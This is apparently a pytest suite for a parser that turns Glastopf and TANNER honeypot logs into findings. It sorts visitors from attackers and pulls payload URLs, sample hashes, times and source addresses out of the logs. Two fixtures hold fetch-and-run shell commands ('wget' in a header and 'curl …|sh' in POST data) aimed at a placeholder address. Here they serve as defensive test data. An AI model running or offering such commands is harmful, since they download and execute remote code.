"""Glastopf and TANNER: visitors and attackers, included files, times and sources."""

from collections import Counter
from datetime import UTC, datetime, timedelta, timezone
from hashlib import md5
from pathlib import Path

import msgspec
import pytest

from cure.interfaces import Input, Reading, Setting
from cure.model import Finding
from cure.model.finding import complete, digest_of
from cure.origins.files import inputs
from cure.publishers.glastopf import PUBLISHER

REAL = Path(__file__).parents[3] / "shared" / "data" / "honeypot"
NOW = datetime(2026, 12, 31, tzinfo=UTC)
TOKYO = timezone(timedelta(hours=9))
HASH = md5(b"invented", usedforsecurity=False).hexdigest()


def event(**fields: object) -> dict[str, object]:
    request = {"method": "GET", "url": "/a", "header": {"Host": "own.example.com"}, "body": ""}
    common = {"source": ["198.51.100.1", 40000], "time": "2026-03-01 09:00:00"}
    return common | {"pattern": "unknown", "filename": None, "request": request} | fields


def report(name: str = "index", **fields: object) -> dict[str, object]:
    answer = {"response": {"message": {"detection": {"name": name}}}}
    common = {"peer": {"ip": "198.51.100.1"}, "timestamp": "2026-03-01T00:00:00.5"}
    asked = {"method": "GET", "path": "/a", "headers": {"host": "own.example.com"}}
    return common | asked | {"response_msg": answer} | fields


def read(*entries: object) -> list[Reading]:
    lines = iter([msgspec.json.encode(entry) for entry in entries])
    setting = Setting(zone=TOKYO)
    return list(PUBLISHER.read(Input(name="x", as_of=NOW, lines=lines, setting=setting)))


def said(entry: object) -> Finding:
    (reading,) = read(entry)
    assert not reading.why
    (finding,) = reading.findings
    return finding


def used(finding: Finding) -> list[tuple[str, str]]:
    return [(one.role, one.value) for one in finding.observables[1:]]


@pytest.mark.parametrize("pattern", ["unknown", "robots", "robots_txt", "favicon_ico", "head"])
def test_who_only_asks_for_a_page_is_a_visitor(pattern):
    assert said(event(pattern=pattern)).observables[0].role == "visitor"


@pytest.mark.parametrize("pattern", ["lfi", "sqli", "php_cgi_rce", "comments"])
def test_who_fits_a_pattern_of_attacks_is_an_attacker(pattern):
    assert said(event(pattern=pattern)).observables[0].role == "attacker"


@pytest.mark.parametrize(("name", "role"), [("index", "visitor"), ("xss", "attacker")])
def test_tanner_tells_them_apart_too(name, role):
    assert said(report(name)).observables[0].role == role


def test_a_search_engine_that_follows_a_bait_includes_nothing():
    request = {"method": "GET", "url": "/a.php=http:/example.com/x"}
    finding = said(event(pattern="rfi", request=request))
    assert [(one.role, one.value) for one in finding.observables] == [("visitor", "198.51.100.1")]


@pytest.mark.parametrize(
    "url",
    [
        "/a?b=http://example.com/x.txt",
        "/a?b=http://example.com/x.txt?",
        "/a?b=http%3A%2F%2Fexample.com%2Fx.txt&c=1",
    ],
)
def test_the_url_of_an_included_file_is_a_payload(url):
    finding = said(event(pattern="rfi", request={"method": "GET", "url": url}))
    assert finding.observables[0].role == "attacker"
    assert used(finding) == [("payload", "http://example.com/x.txt")]


def test_a_url_in_another_pattern_is_no_payload():
    request = {"method": "GET", "url": "/a?back=http://example.com/"}
    assert used(said(event(request=request))) == []


def test_the_file_that_was_fetched_is_a_sample():
    assert used(said(event(pattern="rfi", filename=HASH))) == [("sample", HASH)]


def test_the_empty_file_is_none():
    nothing = md5(usedforsecurity=False).hexdigest()
    assert used(said(event(pattern="rfi", filename=nothing))) == []


def test_a_command_in_a_header_makes_an_attacker():
    headers = {"soapaction": "`wget http://192.0.2.1/m`", "user-agent": None}
    finding = said(report("unknown", headers=headers))
    assert finding.observables[0].role == "attacker"
    assert used(finding) == [("payload", "http://192.0.2.1/m")]


def test_a_command_in_what_was_posted_counts():
    assert used(said(report("unknown", method="POST", post_data={"a": "curl 192.0.2.1/m|sh"}))) == [
        ("payload", "http://192.0.2.1/m")
    ]


@pytest.mark.parametrize("entry", [event(), report()])
def test_which_site_was_asked_stays_inside(entry):
    assert "own.example.com" not in str(said(entry))


def test_glastopf_tells_local_time():
    assert said(event()).first_seen == datetime(2026, 3, 1, tzinfo=UTC)


def test_tanner_tells_utc():
    assert said(report()).first_seen == datetime(2026, 3, 1, 0, 0, 0, 500_000, tzinfo=UTC)


@pytest.mark.parametrize(
    ("source", "address"),
    [
        (["198.51.100.7", 1], "198.51.100.7"),
        ("('198.51.100.7', 1)", "198.51.100.7"),
        ("(u'198.51.100.7', 1)", "198.51.100.7"),
        ("198.51.100.7:1", "198.51.100.7"),
        ("2001:db8::7:1", "2001:db8::7"),
    ],
)
def test_a_source_is_a_pair_or_the_text_of_one(source, address):
    assert said(event(source=source)).observables[0].value == address


@pytest.mark.parametrize(
    ("entry", "why"),
    [
        (event(source="nobody"), "no pair of address and port"),
        (event(source=["nobody", 1]), "is not a ip"),
        (event(filename="x.txt"), "is not a hash"),
        (event(time="yesterday"), "Invalid RFC3339"),
        (report(response_msg={"response": {"message": "TypeError"}}), "Expected `object`"),
        ({"a": 1}, "has neither source nor peer"),
        ([], "Expected `object`"),
    ],
)
def test_what_has_another_form_is_quarantined(entry, why):
    (reading,) = read(entry)
    assert why in reading.why


needs_real_data = pytest.mark.skipif(
    not REAL.is_dir(), reason="the real events are not beside this checkout"
)


def real(pattern: str) -> list[Finding]:
    readings = [
        reading
        for path in sorted(REAL.glob(pattern))
        for data in inputs(path, NOW)
        for reading in PUBLISHER.read(data)
    ]
    assert Counter(reading.why for reading in readings) == {"": len(readings)}
    return [complete(one, NOW, NOW) for reading in readings for one in reading.findings]


@needs_real_data
def test_of_real_events_bson_and_json_say_the_same():
    dumped, exported = real("glastopf/events.bson.gz"), real("glastopf/events.jsonl.gz")
    assert dumped == exported
    assert len(dumped) == 300
    patterns = Counter(one.attributes["pattern"] for one in dumped)
    assert patterns == {"unknown": 290, "rfi": 5, "robots_txt": 5}
    assert {one.observables[0].role for one in dumped} == {"visitor"}


@needs_real_data
def test_of_real_reports_few_are_of_attacks():
    findings = real("tanner/*")
    assert len(findings) == 519
    assert len({one.observables[0].value for one in findings}) == 131
    assert Counter(one.observables[0].role for one in findings) == {"visitor": 515, "attacker": 4}
    assert len({digest_of("glastopf", one) for one in findings}) == 519
